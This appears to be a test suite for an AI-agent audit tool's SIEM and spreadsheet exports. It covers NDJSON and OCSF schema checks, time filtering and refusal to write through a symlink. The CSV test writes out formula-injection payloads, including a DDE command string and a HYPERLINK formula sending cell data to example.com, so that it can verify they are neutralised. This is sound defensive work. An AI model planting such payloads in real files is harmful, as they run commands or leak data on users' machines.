// The exports for SIEMs and spreadsheets: NDJSON and OCSF checked against their documented shapes
// (schemas/json/*.schema.json, strict) and OCSF also by an OCSF 1.5.0 library proofline did not write; CSV
// cells that a spreadsheet would run as formulas are defused; human formats read as documented.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';

import type { OcsfApiActivity } from '../../verifier/render/ocsf.js';
import { makeDataDir, report, standardSessions } from './fixtures.js';

const ajv = new Ajv({ allErrors: true, allowUnionTypes: true });
const schema = (name: string): object =>
  JSON.parse(readFileSync(new URL(`../../schemas/json/${name}`, import.meta.url), 'utf8')) as object;
const validateAction = ajv.compile(schema('action-record.schema.json'));
const validateOcsf = ajv.compile(schema('ocsf-api-activity.schema.json'));

function lines(text: string): unknown[] {
  expect(text.endsWith('\n')).toBe(true);
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as unknown);
}

/** OCSF 1.5.0 validation by ocsf-emitter (test/interop/ocsf/validate_ocsf.py). */
function ocsfLibrary(ndjson: string): { valid: number; errors: [number, string][] } {
  const script = new URL('../interop/ocsf/validate_ocsf.py', import.meta.url).pathname;
  return JSON.parse(execFileSync('python3', [script], { input: ndjson }).toString()) as {
    valid: number;
    errors: [number, string][];
  };
}

describe('NDJSON export (--builtin actions --format ndjson)', () => {
  it('is one record per action, in time order, each of the documented shape', async () => {
    const { dir } = await makeDataDir();
    const { code, stdout } = await report({ paths: [dir], builtin: 'actions', format: 'ndjson' });
    expect(code).toBe(0);
    const records = lines(stdout) as Record<string, unknown>[];
    for (const record of records)
      expect(validateAction(record), ajv.errorsText(validateAction.errors)).toBe(true);
    expect(
      records.map((r) => [r.started_at, r.session_id, r.action_id, r.outcome, r.rho, r.verified]),
    ).toEqual([
      ['2025-06-15T10:00:00.000Z', 's1', 'a1', 'succeeded', 1, true],
      ['2025-06-15T10:00:00.000Z', 's2', 'b1', 'succeeded', 1, true],
      ['2025-06-15T10:00:01.000Z', 's1', 'a2', 'blocked', 1, true],
      ['2025-06-15T10:00:02.000Z', 's1', 'a3', 'succeeded', 0.6, true],
    ]);
    expect(records[2]).toMatchObject({ rule: 'no-rm', reason: 'destructive command', route: 'block' });
    expect(records[3]).toMatchObject({ missing: ['admissibility', 'assumption'] });
    expect(records[1]).toMatchObject({ approval: 'approved', approvers: ['dev@example.com'] });
  });

  it('the shape check is not vacuous: a record with a field added or a time in another form fails it', () => {
    const record = {
      started_at: '2025-06-15T10:00:00Z',
      ended_at: null,
      session_id: 's',
      turn_id: null,
      action_id: 'a',
      sequence: 0,
      runtime_family: 'tool_hook',
      tool_name: null,
      route: null,
      enforceability: null,
      outcome: 'unknown',
      rule: null,
      reason: null,
      approval: null,
      approvers: [],
      receipts: [],
      missing: [],
      rho: 1,
      receipts_rho: 1,
      verified: true,
      policy_digest: null,
      bundle_digest: 'a'.repeat(64),
      file: 'f',
    };
    expect(validateAction(record)).toBe(false);
    expect(validateAction({ ...record, started_at: '2025-06-15T10:00:00.000Z' })).toBe(true);
    expect(validateAction({ ...record, started_at: '2025-06-15T10:00:00.000Z', extra: 1 })).toBe(false);
  });
});

describe('OCSF export (--format ocsf)', () => {
  it('is one OCSF 1.5.0 API Activity event per action, valid by the documented shape and by an OCSF library', async () => {
    const { dir } = await makeDataDir();
    const { code, stdout } = await report({ paths: [dir], format: 'ocsf' });
    expect(code).toBe(0);
    const events = lines(stdout) as OcsfApiActivity[];
    expect(events).toHaveLength(4);
    for (const event of events) expect(validateOcsf(event), ajv.errorsText(validateOcsf.errors)).toBe(true);
    expect(ocsfLibrary(stdout)).toEqual({ valid: 4, errors: [] });

    const blocked = events.find((e) => e.api.request.uid === 'a2')!;
    expect(blocked).toMatchObject({
      class_uid: 6003,
      type_uid: 600399,
      time: Date.parse('2025-06-15T10:00:01Z'),
      status_id: 2,
      status: 'Failure',
      status_detail: 'blocked before execution: destructive command',
      severity: 'Medium',
      metadata: { correlation_uid: 's1', version: '1.5.0' },
      actor: {
        session: { uid: 's1' },
        authorizations: [{ decision: 'block', policy: { name: 'no-rm', desc: 'destructive command' } }],
      },
    });
    const approved = events.find((e) => e.api.request.uid === 'b1')!;
    expect(approved.actor.authorizations).toEqual([
      {
        decision: 'approved',
        policy: { name: 'approval by user', desc: 'approved by dev@example.com (approval_orchestrated)' },
      },
    ]);
    // a3 ran with its hook bypassed: no guard decision to map, and the missing receipt raises the severity.
    const unguarded = events.find((e) => e.api.request.uid === 'a3')!;
    expect(unguarded).toMatchObject({ severity: 'Medium', status: 'Success', actor: { authorizations: [] } });
    expect(unguarded.unmapped.proofline).toMatchObject({
      rho: 0.6,
      missing: ['admissibility', 'assumption'],
    });
  });

  it('marks evidence that failed verification High, and the library rejects a broken event', async () => {
    const { dir } = await makeDataDir();
    const bundle = join(dir, 'bundles', 's2', '000000-b1.dsse.json');
    const envelope = JSON.parse(await readFile(bundle, 'utf8')) as { signatures: { sig: string }[] };
    envelope.signatures[0]!.sig = Buffer.alloc(64).toString('base64');
    await writeFile(bundle, JSON.stringify(envelope));
    const { code, stdout } = await report({ paths: [dir], format: 'ocsf' });
    expect(code).toBe(1);
    const events = lines(stdout) as OcsfApiActivity[];
    const b1 = events.find((e) => e.api.request.uid === 'b1')!;
    expect(b1).toMatchObject({
      severity_id: 4,
      severity: 'High',
      unmapped: { proofline: { verified: false, rho: 0 } },
    });
    // Negative controls: the independent validator is not vacuous.
    const noApi: Partial<OcsfApiActivity> = { ...b1 };
    delete noApi.api;
    const wrongType = { ...b1, type_uid: 600301 };
    const result = ocsfLibrary(`${JSON.stringify(noApi)}\n${JSON.stringify(wrongType)}\n`);
    expect(result.valid).toBe(0);
    expect(result.errors.map(([line]) => line)).toEqual([1, 2]);
    expect(validateOcsf(noApi)).toBe(false);
  });
});

describe('CSV against formula injection', () => {
  it('prefixes text cells that a spreadsheet would run, keeps numbers, and stays RFC 4180', async () => {
    const sessions = standardSessions();
    sessions[0]!.actions[0]!.tool_name = '=HYPERLINK("https://example.com/?"&A1,"click")';
    sessions[0]!.actions[1]!.tool_name = '+1+cmd|" /C calc"!A0';
    sessions[0]!.actions[2]!.tool_name = '@SUM(1,1)';
    sessions[1]!.actions[0]!.tool_name = '-2+3';
    const { dir } = await makeDataDir(sessions);
    const { stdout } = await report({
      paths: [dir],
      sql: `SELECT tool_name, sequence - 1 AS n, '\t=1' AS tab FROM bundles ORDER BY session_id, sequence`,
      format: 'csv',
    });
    const parsed = JSON.parse(
      execFileSync('python3', ['-c', 'import csv,sys,json; print(json.dumps(list(csv.reader(sys.stdin))))'], {
        input: stdout,
      }).toString(),
    ) as string[][];
    expect(parsed).toEqual([
      ['tool_name', 'n', 'tab'],
      [`'=HYPERLINK("https://example.com/?"&A1,"click")`, '-1', "'\t=1"],
      [`'+1+cmd|" /C calc"!A0`, '0', "'\t=1"],
      ["'@SUM(1,1)", '1', "'\t=1"],
      ["'-2+3", '-1', "'\t=1"],
    ]);
  });
});

describe('human formats and options', () => {
  it('a table shows times in one readable UTC form and digests short; JSON keeps them whole', async () => {
    const { dir } = await makeDataDir();
    const table = (await report({ paths: [dir], builtin: 'actions', format: 'table' })).stdout;
    const json = JSON.parse((await report({ paths: [dir], builtin: 'actions' })).stdout) as {
      bundle_digest: string;
      started_at: string;
    }[];
    expect(table).toContain('2025-06-15 10:00:01.000Z');
    expect(table).not.toContain(json[0]!.bundle_digest);
    expect(table).toContain(`${json[0]!.bundle_digest.slice(0, 12)}…`);
    expect(json[0]!.bundle_digest).toMatch(/^[0-9a-f]{64}$/);
    expect(json[0]!.started_at).toBe('2025-06-15T10:00:00.000Z');
  });

  it('--sql takes a query inline, --sql-file from a file, and exactly one way to choose is required', async () => {
    const { dir } = await makeDataDir();
    const inline = await report({ paths: [dir], sql: `SELECT count(*)::INTEGER AS n FROM bundles` });
    expect(JSON.parse(inline.stdout)).toEqual([{ n: 4 }]);
    // Time columns are TIMESTAMP: compared and bucketed as times, not strings.
    const bucketed = await report({
      paths: [dir],
      sql: `SELECT date_trunc('minute', started_at) AS minute, typeof(started_at) AS type, count(*)::INTEGER AS n
            FROM bundles WHERE started_at >= TIMESTAMP '2025-06-15 10:00:01' GROUP BY ALL`,
    });
    expect(JSON.parse(bucketed.stdout)).toEqual([
      { minute: '2025-06-15T10:00:00.000Z', type: 'TIMESTAMP', n: 2 },
    ]);
    await expect(report({ paths: [dir], sql: 'SELECT 1', builtin: 'actions' })).rejects.toMatchObject({
      code: 'REPORT_NOT_CHOSEN',
      exitCode: 2,
    });
    await expect(report({ paths: [dir], format: 'html', builtin: 'actions' })).rejects.toMatchObject({
      code: 'REPORT_FORMAT_TAKES_NO_QUERY',
    });
    await expect(report({ paths: [dir], sqlFile: join(dir, 'none.sql') })).rejects.toMatchObject({
      code: 'SQL_FILE_UNREADABLE',
    });
  });

  it('--out writes the file, and refuses a symbolic link planted where it goes', async () => {
    const { dir } = await makeDataDir();
    const out = join(dir, 'actions.ndjson');
    expect((await report({ paths: [dir], builtin: 'actions', format: 'ndjson', out })).stdout).toBe('');
    expect((await readFile(out, 'utf8')).split('\n')).toHaveLength(5);
    const victim = join(dir, 'victim.txt');
    await writeFile(victim, 'keep me');
    const link = join(dir, 'report.html');
    await symlink(victim, link);
    await expect(report({ paths: [dir], format: 'html', out: link })).rejects.toMatchObject({
      code: 'OUTPUT_UNWRITABLE',
      message: expect.stringContaining('symbolic link') as string,
    });
    expect(await readFile(victim, 'utf8')).toBe('keep me');
  });
});

describe('--since/--until', () => {
  const at = (seconds: number): string => `2025-06-15T10:00:0${seconds}Z`;

  it('keep the actions of the window; a session keeps its seal while any of its actions is in it', async () => {
    const { dir } = await makeDataDir();
    const r = await report({ paths: [dir], builtin: 'sessions', since: at(1), until: at(2) });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([
      {
        session_id: 's1',
        runtime_family: 'tool_hook',
        actions: 1,
        blocked: 1,
        mean_rho: 1,
        complete_share: 1,
        sealed: 'session_end',
        failed_checks: 0,
      },
    ]);
    const actions = JSON.parse(
      (await report({ paths: [dir], builtin: 'actions', since: '2025-06-15T10:00:01Z' })).stdout,
    ) as { action_id: string }[];
    expect(actions.map((a) => a.action_id)).toEqual(['a2', 'a3']);
    const before = JSON.parse((await report({ paths: [dir], builtin: 'actions', until: at(1) })).stdout) as {
      action_id: string;
    }[];
    expect(before.map((a) => a.action_id)).toEqual(['a1', 'b1']);
  });

  it('a failure inside the window is reported; one outside it is not this window’s', async () => {
    const sessions = standardSessions();
    // b1 (10:00:00) claims a ρ its receipts do not give.
    sessions[1]!.actions[0]!.edit = (proof) => {
      proof.summary.completeness.rho = 0.5;
    };
    const { dir } = await makeDataDir(sessions);
    const inside = await report({ paths: [dir], builtin: 'completeness', until: at(1) });
    expect(inside.code).toBe(1);
    expect(inside.stderr).toMatch(
      /1 verification checks failed under this report; 1 actions count as unverifiable/,
    );
    const outside = await report({ paths: [dir], builtin: 'completeness', since: at(1) });
    expect(outside.code).toBe(0);
    expect(JSON.parse(outside.stdout)).toEqual([
      { runtime_family: 'tool_hook', actions: 2, mean_rho: 0.8, complete_actions: 1, complete_share: 0.5 },
    ]);
  });

  it('a bound without a zone, or not a time, is a usage error before anything is loaded', async () => {
    for (const bound of ['2025-06-15T10:00:00', 'yesterday', '2025-13-45'])
      await expect(
        report({ paths: ['/nonexistent'], builtin: 'actions', since: bound }),
      ).rejects.toMatchObject({
        code: 'BAD_TIME',
        exitCode: 2,
      });
  });
});
